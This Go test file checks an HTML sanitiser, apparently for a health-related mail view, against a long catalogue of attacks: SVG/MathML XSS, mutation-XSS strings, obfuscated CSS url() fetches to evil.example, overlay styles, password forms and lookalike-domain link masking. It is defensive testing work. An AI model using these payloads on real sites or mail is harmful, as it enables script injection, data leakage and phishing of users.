package sanitize

import (
	"fmt"
	"strings"
	"testing"

	xhtml "golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// nodes are the elements of a sanitised fragment, read as a browser does.
func nodes(t *testing.T, out string) (all []*xhtml.Node) {
	t.Helper()
	top, err := xhtml.ParseFragment(strings.NewReader(out), &xhtml.Node{Type: xhtml.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range top {
		all = append(all, n)
		for d := range n.Descendants() {
			all = append(all, d)
		}
	}
	return all
}

// quietFragment sanitises in and fails when anything in it could run or fetch: no
// attribute but alt, title and href may name the attacker's host.
func quietFragment(t *testing.T, in string) string {
	t.Helper()
	out := check(t, in)
	for _, n := range nodes(t, out) {
		if n.Type != xhtml.ElementNode {
			continue
		}
		switch n.Data {
		case "svg", "math", "animate", "set", "image", "use", "foreignobject", "feimage", "style", "script", "base", "form", "input", "iframe":
			t.Errorf("%q keeps <%s>: %s", in, n.Data, out)
		}
		for _, a := range n.Attr {
			low := strings.ToLower(a.Val)
			if strings.Contains(low, "javascript:") || strings.HasPrefix(a.Key, "on") {
				t.Errorf("%q keeps %s=%q", in, a.Key, a.Val)
			}
			if a.Key != "href" && a.Key != "title" && a.Key != "alt" && (strings.Contains(low, "evil") || strings.Contains(low, "url(")) {
				t.Errorf("%q keeps %s=%q", in, a.Key, a.Val)
			}
		}
	}
	return out
}

// Attacks 1, 4 and 12: the SVG and MathML tricks of the last three years, each a
// way round a list of what is forbidden.
func TestRowSVG(t *testing.T) {
	t.Parallel()
	for i, in := range []string{
		`<svg><a href="#"><animate attributeName="href" values="javascript:alert(1)" begin="0s" fill="freeze"/><text y=20>clic</text></a></svg>`,
		`<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y=20>clic</text></a></svg>`,
		`<svg><a><animate attributeName=" href" by="javascript:alert(1)"/><text>clic</text></a></svg>`,
		`<svg><animate attributeName="xlink:href" from="javascript:alert(1)" to="javascript:alert(1)"/></svg>`,
		`<svg><rect><animate attributeName="style" values="fill:url(https://evil.example/a)"/></rect></svg>`,
		`<svg><rect><animate attributeName="fill" values="url(https://evil.example/a#x)"/></rect></svg>`,
		`<svg><rect><animate attributeName="mask" by="url(https://evil.example/a#x)"/></rect></svg>`,
		`<svg><rect><animate attributeName="cursor" to="url(https://evil.example/a),auto"/></rect></svg>`,
		`<svg><rect><set attributeName="filter" to="url(https://evil.example/a#x)"/></rect></svg>`,
		`<svg><rect fill="url( 'https://evil.example/a#x' )" stroke="url(https://evil.example/b"/></svg>`,
		`<svg><rect clip-path="url(//evil.example/a#x)" marker-end="url(//evil.example/b#x)"/></svg>`,
		`<svg><use href="https://evil.example/a.svg#x"/><use xlink:href="data:image/svg+xml,%3Csvg onload=alert(1)%3E#x"/></svg>`,
		`<svg><use href="data: image/svg+xml;base64,PHN2Zz4=#x"/></svg>`,
		`<svg><filter><feImage href="https://evil.example/a"/></filter></svg>`,
		`<svg><image href="https://evil.example/a" xlink:href="https://evil.example/b"/></svg>`,
		`<svg><foreignObject><img src=x onerror=alert(1)><body onload=alert(1)></foreignObject></svg>`,
		`<svg><style>*{background:url(https://evil.example/a)}</style><p>après</p></svg>`,
		`<svg><script href="https://evil.example/a.js"/><script>alert(1)</script></svg>`,
		`<svg onload=alert(1)><svg/onload=alert(1)>`,
		`<svg><title><img src=x onerror=alert(1)></title></svg>`,
		`<svg><desc><![CDATA[</desc><img src=x onerror=alert(1)>]]></svg>`,
		`<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>`,
		`<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
		`<img src="data: image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><img src=" data:image/svg+xml,<svg onload=alert(1)>"><img src="data:text/html,<script>alert(1)</script>">`,
		`<a href="https://ok.example"><animate attributeName="href" values="javascript:alert(1)"/>clic</a>`,
	} {
		out := quietFragment(t, in)
		if strings.Contains(out, "src=") {
			t.Errorf("%d: a picture stayed: %s", i, out)
		}
	}
}

// Attacks 4, 5 and 6: nothing in a style may name a place, however it is spelt.
func TestRowFetchingStyles(t *testing.T) {
	t.Parallel()
	for _, style := range []string{
		"background:url(https://evil.example/a)", "background:url('https://evil.example/a", `background:url("https://evil.example/a`,
		"background-image:url(https://evil.example/a", "background:url( //evil.example/a )", "background:URL(https://evil.example/a)",
		`background:u\72l(https://evil.example/a)`, `background:\75\72\6c(https://evil.example/a)`, "background:ur/**/l(https://evil.example/a)",
		"background:/**/url(/**/https://evil.example/a)", "background:image('https://evil.example/a')", "background:image-set('https://evil.example/a' 1x)",
		"background:-webkit-image-set(url(https://evil.example/a) 1x)", "background:cross-fade(url(https://evil.example/a),url(b),50%)",
		"background:element(#x)", "background:paint(evil)", "background:src('https://evil.example/a')", "color:var(--x,url(https://evil.example/a))",
		"--x:url(https://evil.example/a);background:var(--x)", "background:attr(title url)", "background:env(x,url(https://evil.example/a))",
		"list-style:url(https://evil.example/a)", "list-style-image:url(https://evil.example/a)", "cursor:url(https://evil.example/a),auto",
		"content:url(https://evil.example/a)", "border-image:url(https://evil.example/a) 1", "mask:url(https://evil.example/a)",
		"filter:url(https://evil.example/a#x)", "clip-path:url(https://evil.example/a#x)", "shape-outside:url(https://evil.example/a)",
		"offset-path:url(https://evil.example/a)", "behavior:url(https://evil.example/a)", "-moz-binding:url(https://evil.example/a)",
		"font-family:x;src:url(https://evil.example/a)", "@import url(https://evil.example/a)", "@font-face{font-family:f;src:url(https://evil.example/a)}",
		"&{background:url(https://evil.example/a)}", "color:red;}*{background:url(https://evil.example/a)", "color:red;/*;background:url(https://evil.example/a)",
		"width:expression(alert(1))", "background-color:url(https://evil.example/a)", "color:rgb(url(https://evil.example/a))", "font-family:url(https://evil.example/a)",
		"font-family:'https://evil.example/a'", "border:1px solid url(https://evil.example/a)", "background:red url(https://evil.example/a)",
	} {
		for _, in := range []string{`<p style="%s">mot</p>`, `<table background="https://evil.example/t" style="%s"><tr><td style="%[1]s">mot</td></tr></table>`, `<body style="%s" background="https://evil.example/b">mot</body>`} {
			in = fmt.Sprintf(in, strings.ReplaceAll(style, `"`, "&quot;"))
			if out := quietFragment(t, in); !strings.Contains(out, "mot") {
				t.Errorf("%s: the words are gone: %s", in, out)
			}
		}
	}
}

// Attack 7: neither the style element nor its text, whichever way it is closed.
func TestRowStyleElement(t *testing.T) {
	t.Parallel()
	for _, in := range []string{
		`<style>.evil{background:url(https://evil.example/a)}</style><p>mot</p>`, `<STYLE type=text/css>.evil{}</STYLE ><p>mot</p>`,
		`<style><!-- .evil{} --></style><p>mot</p>`, "<style>.evil{}</style\n><p>mot</p>", `<p>mot</p><style>.evil{`,
		`<head><style>.evil{}</style></head><p>mot</p>`, `<link rel=stylesheet href=https://evil.example/a><p>mot</p>`, `<table><style>.evil{}</style><tr><td>mot</table>`,
	} {
		out := quietFragment(t, in)
		if strings.Contains(out, "evil") {
			t.Errorf("%s: a style sheet's text is shown: %s", in, out)
		}
		if !strings.Contains(out, "mot") {
			t.Errorf("%s: the words are gone: %s", in, out)
		}
	}
}

// Attack 8: no declaration can lift a box out of its place or cover the page.
func TestRowOverlay(t *testing.T) {
	t.Parallel()
	for _, style := range []string{
		"position:fixed !important;top:0;left:0;width:100vw;height:100vh", "POSITION:FIXED", "position:absolute;inset:0", "position:sticky;top:0",
		"pos/**/ition:fixed", `pos\69tion:fixed`, "color:red;position:fixed", "color:red}position:fixed;{", "margin:-9999px", "margin-top:-1000px",
		"transform:translate(-100%,-100%) scale(99)", "translate:-100% 0", "z-index:2147483647", "opacity:0", "width:99999px", "height:100000em", "float:left;margin-left:-5000px",
		"display:flex;position:fixed", "display:contents", "all:unset;position:fixed", "inset:0", "top:0;left:0", "zoom:99", "scale:99", "visibility:hidden",
		"animation:x 1s", "will-change:transform", "overflow:visible", "clip:rect(0,0,0,0)", "pointer-events:none", "text-indent:-9999px", "letter-spacing:-99px", "font-size:9999px", "line-height:9999px",
	} {
		out := quietFragment(t, `<div style="`+style+`">mot</div>`)
		for _, n := range nodes(t, out) {
			for _, a := range n.Attr {
				low := strings.ToLower(a.Val)
				for _, bad := range []string{"fixed", "absolute", "sticky", "-", "9999", "transform", "z-index", "opacity", "inset", "vw", "100000", "scale", "zoom", "visibility", "flex", "contents"} {
					if a.Key == "style" && strings.Contains(strings.ReplaceAll(low, "margin-left:0", ""), bad) {
						t.Errorf("%s: keeps %q", style, a.Val)
					}
				}
			}
		}
	}
}

// Attacks 10 and 14: a sender can preset no attribute that our pages, our scripts
// or a browser would act on.
func TestRowPrivateAttributes(t *testing.T) {
	t.Parallel()
	names := []string{"id", "name", "class", "data-x", "data-file", "data-testid", "data-worker", "hx-get", "hx-post", "hx-on:load", "hx-trigger", "hx-nonce",
		"hx-vals", "_", "x-data", "v-html", "ng-app", "onclick", "onerror", "onfocus", "ontoggle", "onbeforetoggle", "autofocus", "tabindex", "accesskey",
		"contenteditable", "formaction", "action", "form", "target", "rel", "ping", "download", "srcdoc", "srcset", "sizes", "poster", "background",
		"longdesc", "usemap", "ismap", "cite", "profile", "manifest", "nonce", "integrity", "is", "slot", "part", "popover", "popovertarget", "commandfor",
		"itemprop", "role", "aria-label", "hidden", "inert", "draggable", "dynsrc", "lowsrc", "xmlns", "xlink:href", "xml:base", "fetchpriority", "http-equiv"}
	kept := map[string]bool{"href": true, "rel": true, "target": true, "title": true, "src": true, "alt": true}
	for _, element := range []string{"a href=https://ok.example", "img src=cid:logo@hopital alt=x", "div", "table", "td", "details", "summary", "span", "font", "li", "ol", "del", "q", "time"} {
		for _, name := range names {
			in := "<table><tr><td><" + element + " " + name + "=evil>mot</table>"
			out := check(t, in)
			for _, n := range nodes(t, out) {
				for _, a := range n.Attr {
					if !kept[a.Key] || strings.Contains(a.Val, "evil") {
						t.Errorf("%s keeps %s=%q", in, a.Key, a.Val)
					}
				}
			}
		}
	}
	for _, in := range []string{`<span class="pli-host"> [www.ameli.fr]</span>`, `<a href="https://evil.example">mot<span class=PLI-HOST>x</span></a>`, `<span class="a pli-host b"> [www.ameli.fr]</span>`} {
		if out := check(t, in); strings.Contains(out, "ameli") || strings.Contains(out, "pli-host") {
			t.Errorf("%s: a sender wrote our mark: %s", in, out)
		}
	}
	for _, in := range []string{`<form action=https://evil.example><input name=p type=password value=x><button formaction=https://evil.example>Envoyer</button></form>`,
		`<input type=image src=https://evil.example/a>`, `<isindex action=https://evil.example>`, `<textarea>x</textarea><select><option>y</select>`, `<keygen name=x>`, `<output for=x>mot</output>`} {
		for _, n := range nodes(t, check(t, in)) {
			switch n.Data {
			case "form", "input", "button", "textarea", "select", "option", "isindex", "keygen", "output":
				t.Errorf("%s keeps <%s>", in, n.Data)
			}
		}
	}
}

// Attacks 2, 3 and 11: what a parser reads once, it reads the same way for ever.
func TestRowMutation(t *testing.T) {
	t.Parallel()
	for _, in := range []string{
		`<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>`,
		`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<svg><p><style><g title="</style><img src=x onerror=alert(1)>">`,
		`<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`, `<noframes><img title="</noframes><img src=x onerror=alert(1)>">`,
		`<noscript><style></noscript><img src=x onerror=alert(1)></style>`, `<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
		`<textarea><img title="</textarea><img src=x onerror=alert(1)>">`, `<title><a title="</title><img src=x onerror=alert(1)>">`,
		`<select><template><style><!--</style><a title="--><img src=x onerror=alert(1)>">`, `<template><s><template><s><img src=x onerror=alert(1)>`,
		`<![CDATA[<img src=x onerror=alert(1)>]]>`, `<!--><img src=x onerror=alert(1)>-->`, `<!--!><img src=x onerror=alert(1)>-->`, `<!-- --!><img src=x onerror=alert(1)>`,
		`<?xml version="1.0"?><img src=x onerror=alert(1)?>`, `<!DOCTYPE x [<!ENTITY e "<img src=x onerror=alert(1)>">]>&e;`,
		`<base href="https://evil.example/"><img src="a.png"><a href="b">x</a>`, `<BASE TARGET=_top><a href=https://ok.example>x</a>`,
		`<a href="https://ok.example" <img src=x onerror=alert(1)>`, `<p title="<img src=x onerror=alert(1)>`, `<img src="x` + "\n" + `onerror=alert(1)>`,
		`<table><td><a href=https://ok.example><table><a href=https://ok.example>x`, strings.Repeat(`<b><p><i>`, 40) + `x</b>`, `<h1><table><h2>x</h1>y`,
		`<a href=https://ok.example><details><a href=https://ok.example>x</details>`, "<pre>\n\n<b>\nx", `<button><p><button>x`, `<option><p><optgroup>x`, `<frameset><frame src=javascript:alert(1)>`,
		"<figure><tfoot><h6><u>x\n<h3><main></u>x", // what the writer gives at first is read otherwise
	} {
		out := quietFragment(t, in) // check compares with a second pass
		again, ok := reparse([]byte(out))
		if !ok || string(again) != out {
			t.Errorf("%s: a browser reads %q as %q", in, out, again)
		}
	}
}

// Attack 13: text that names one host over a link to another gets the true one in
// sight, and a foreign script is told by its punycode.
func TestRowLinkMasking(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		href, text string
		shown      string // the host told behind the link, "" for none
	}{
		{"https://evil.example/", "https://www.ameli.fr/compte", "evil.example"}, {"https://evil.example/", "www.ameli.fr", "evil.example"},
		{"https://evil.example/", "Allez sur ameli.fr maintenant", "evil.example"}, {"https://ameli.fr.evil.example/", "ameli.fr", "ameli.fr.evil.example"},
		{"https://evil.example/?u=https://ameli.fr/", "https://ameli.fr/", "evil.example"}, {"https://ameli.fr@evil.example/", "ameli.fr", "evil.example"},
		{"https://evil.example/", "<b>www.<i>ameli</i></b>.fr", "evil.example"}, {"https://evil.example/", "www.am\u200beli.fr", "evil.example"},
		{"https://evil.example/", "ameli。fr", "evil.example"}, {"https://evil.example/", `<img src=cid:logo@hopital alt="https://www.ameli.fr">`, "evil.example"},
		{"https://аmeli.fr/", "ameli.fr", "xn--meli-43d.fr"}, {"https://xn--meli-43d.fr/", "espace personnel", "xn--meli-43d.fr"},
		{"mailto:x@evil.example", "dr.martin@hopital.example", "x@evil.example"}, {"https://assure.ameli.fr/", "ameli.fr", ""},
		{"https://www.ameli.fr/a", "https://www.ameli.fr/b", ""}, {"https://evil.example/", "cliquez ici", ""}, {"https://evil.example/", "rapport.pdf", ""},
	} {
		out := check(t, `<a href="`+c.href+`">`+c.text+`</a>`)
		var told string
		for _, n := range nodes(t, out) {
			for _, a := range n.Attr {
				if a.Key == "class" && n.FirstChild != nil {
					told = strings.Trim(n.FirstChild.Data, " []")
				}
			}
		}
		if told != c.shown || !strings.Contains(out, "<a ") {
			t.Errorf("%s over %s tells %q, want %q: %s", c.text, c.href, told, c.shown, out)
		}
	}
	for _, href := range []string{"javascript:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", "data:text/html,x", "vbscript:x", "blob:https://x", "filesystem:x", "file:///etc/passwd",
		"//evil.example", "/sign-out", "?x", "#x", "https:\\\\evil.example", "https:evil.example", "http://127.0.0.1/", "http://0x7f.1/", "https://[::1]/", "ms-msdt:/x", "intent://x", "about:blank", "cid:x", "mailto:a@b.example?bcc=c@d.example&body=x"} {
		for _, n := range nodes(t, check(t, `<a href="`+href+`">mot</a>`)) {
			for _, a := range n.Attr {
				if a.Key == "href" && a.Val != "mailto:a@b.example" {
					t.Errorf("%q became %q", href, a.Val)
				}
			}
		}
	}
	for _, n := range nodes(t, check(t, `<a href=https://ok.example rel=opener target=_top>x</a>`)) { // attack 50
		if n.Data == "a" && !strings.Contains(fmt.Sprint(n.Attr), "noopener noreferrer") {
			t.Errorf("a link keeps its opener: %v", n.Attr)
		}
	}
}
